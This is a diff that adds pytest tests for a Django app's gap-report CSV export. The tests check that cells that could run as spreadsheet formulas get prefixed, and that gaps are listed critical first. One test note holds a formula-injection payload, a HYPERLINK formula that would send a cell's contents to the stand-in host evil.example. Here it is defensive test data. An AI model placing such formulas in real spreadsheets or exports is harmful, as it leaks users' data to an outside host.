@@ -1,0 +1,65 @@
+"""Gaps as CSV: one row per gap, critical first, and no cell a spreadsheet would run."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.contrib.auth.models import User
+
+from assessments.models import Organisation
+from assessments.results import GAP_COLUMNS, csv_safe, gaps_csv, results_for_assessment
+from tests.factories import answer, make_assessment
+from tests.test_results import answer_mini
+
+DANGEROUS = ["=SUM(A1:A2)", "+1", "-1+1", "@SUM(A1)", "\tcmd", "\0x", "\rx"]
+
+
+@pytest.mark.parametrize("value", DANGEROUS)
+def test_cells_that_would_run_as_formulas_are_prefixed(value: str) -> None:
+    assert csv_safe(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["Plain text", "1.5", "", "a=b", "x+y", "周辉"])
+def test_other_cells_are_left_alone(value: str) -> None:
+    assert csv_safe(value) == value
+
+
+def rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_gap_rows_are_defused_and_ordered_critical_first(
+    mini_bank: None, organisation: Organisation, assessor: User
+) -> None:
+    assessment = make_assessment(organisation, assessor)
+    answer_mini(assessment, assessor)
+    answer(
+        assessment,
+        assessor,
+        "mini-tier",
+        "supervision",
+        "no",
+        note='=HYPERLINK("http://evil.example/?"&A1,"click")',
+    )
+    answer(assessment, assessor, "mini-maturity", "metrics", "none", note="@SUM(1)")
+    text = gaps_csv(results_for_assessment(assessment))
+    found = rows(text)
+    assert list(found[0]) == GAP_COLUMNS
+    assert [r["question"] for r in found[:2]] == ["red-team", "permit-held"]
+    assert [r["critical"] for r in found] == ["yes", "yes"] + ["no"] * (len(found) - 2)
+    notes = {r["question"]: r["note"] for r in found}
+    assert notes["supervision"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert notes["metrics"] == "'@SUM(1)"
+    assert notes["requirements"] == "'=1+1"
+    for row in found:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\0", "\r")), cell
+    priorities = [float(r["priority"]) for r in found[2:]]
+    assert priorities == sorted(priorities, reverse=True)
+    assert "周辉" in next(r["source"] for r in found if r["question"] == "permit-held")
+
+
+def test_no_gaps_gives_the_header_only() -> None:
+    assert gaps_csv({"gaps": [], "sources": {}}).splitlines() == [",".join(GAP_COLUMNS)]
